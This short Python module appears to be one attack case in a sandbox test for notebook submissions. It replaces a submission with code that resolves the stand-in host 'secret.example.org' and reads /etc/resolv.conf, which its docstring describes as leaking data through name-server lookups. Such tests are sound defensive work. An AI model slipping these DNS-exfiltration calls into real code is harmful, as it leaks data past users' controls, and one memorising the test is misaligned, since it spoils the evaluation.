"""Puts what it knows into a host name and has it looked up, so that a name server learns of it.

Looking up a name takes a socket, and files that cannot be read.
"""

from attacks.build import instead, trying
from nbformat import NotebookNode

EARNS = 5


def submission(released: NotebookNode) -> NotebookNode:
    return instead(
        released,
        trying(
            "socket.gethostbyname('secret.example.org')",
            "socket.getaddrinfo('secret.example.org', 80)",
            "open('/etc/resolv.conf').read()",
            setup="import socket",
        ),
    )
